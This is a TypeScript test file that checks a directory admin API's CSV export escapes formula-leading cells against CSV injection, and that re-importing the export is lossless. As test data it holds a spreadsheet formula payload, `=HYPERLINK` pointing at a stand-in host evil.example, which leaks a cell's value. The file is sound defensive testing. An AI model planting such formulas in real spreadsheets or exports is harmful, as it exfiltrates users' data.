// Owns: the proof that directory CSV export escapes formula-leading cells (issue 9 finding 7,
// OWASP "CSV Injection"): through the real admin API export route over a socket, a title
// `=HYPERLINK(…)` set by an agency head goes out as `'=HYPERLINK(…)`, and importing our own export
// back changes nothing (the import removes exactly the quote the export added).
import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import { parse } from 'csv-parse/sync';
import { startAdminApi, seedProvince, type AdminApi, type Province } from '../helpers/admin-api.ts';
import { backends } from '../helpers/harness.ts';
import { escapeFormulaCell, unescapeFormulaCell } from '../../src/directory/csv.ts';

describe('formula cells', () => {
  it('escapes = + - @ tab CR with a quote, and unescaping is the exact inverse', () => {
    const cases: Array<[string, string]> = [
      ['=1+1', "'=1+1"],
      ['+84 260 3862 111', "'+84 260 3862 111"],
      ['-2', "'-2"],
      ['@SUM(A1)', "'@SUM(A1)"],
      ['\t=x', "'\t=x"],
      ['\r=x', "'\r=x"],
      ["'=x", "''=x"], // already quoted by hand: one more quote, so it reads back as it was
      ["'quoted", "'quoted"],
      ['Giám đốc', 'Giám đốc'],
      ['a=b', 'a=b'],
      ['', ''],
    ];
    for (const [raw, escaped] of cases) {
      expect(escapeFormulaCell(raw), JSON.stringify(raw)).toBe(escaped);
      expect(unescapeFormulaCell(escaped), JSON.stringify(escaped)).toBe(raw);
    }
  });
});

for (const backend of backends()) {
  describe(`CSV export over the admin API (${backend})`, { timeout: 120000 }, () => {
    let api: AdminApi;
    let p: Province;
    beforeAll(async () => {
      api = await startAdminApi({ backend });
      p = await seedProvince(api);
    });
    afterAll(async () => api?.stop());

    it('an agency head sets a formula title; the export quotes it and re-importing the export changes nothing', async () => {
      const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';
      const created = await api.call(p.tokens['head-snv'], 'POST', '/api/v1/people', { fullName: 'Hồ Văn Công', unitCode: 'SNV-VP', title: evil, phone: '+84 260 3862 111', reason: 'QĐ 7/QĐ-SNV' });
      expect(created.status, created.text).toBeLessThan(300);
      const units = await api.call(p.tokens['head-snv'], 'PATCH', '/api/v1/units/SNV-VP', { name: '@Văn phòng Sở Nội vụ', reason: 'QĐ 8/QĐ-SNV' });

      const exported = await api.call(p.tokens.sysadmin, 'GET', '/api/v1/csv/people');
      expect(exported.status).toBe(200);
      const rows = parse(exported.text, { bom: true }) as string[][];
      const row = rows.find((r) => r[0] === 'Hồ Văn Công')!;
      expect(row[1]).toBe(`'${evil}`);
      expect(row[3]).toBe("'+84 260 3862 111");
      // no cell of the file starts a formula
      for (const r of rows) for (const cell of r) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);

      const back = await api.call(p.tokens.sysadmin, 'POST', '/api/v1/csv/people?dryRun=false&reason=QĐ%209', exported.text, { contentType: 'text/csv' });
      expect(back.status, back.text).toBe(200);
      expect(back.json).toMatchObject({ applied: true, created: 0, updated: 0, errors: [] });
      const person = (await api.t.app.directory.listPeople()).find((x) => x.fullName === 'Hồ Văn Công')!;
      expect(person.title).toBe(evil);
      expect(person.phone).toBe('+84 260 3862 111');

      expect(units.status, units.text).toBe(200);
      {
        const u = await api.call(p.tokens.sysadmin, 'GET', '/api/v1/csv/units');
        const unitRows = parse(u.text, { bom: true }) as string[][];
        expect(unitRows.find((r) => r[0] === 'SNV-VP')![1]).toBe("'@Văn phòng Sở Nội vụ");
      }
    });
  });
}
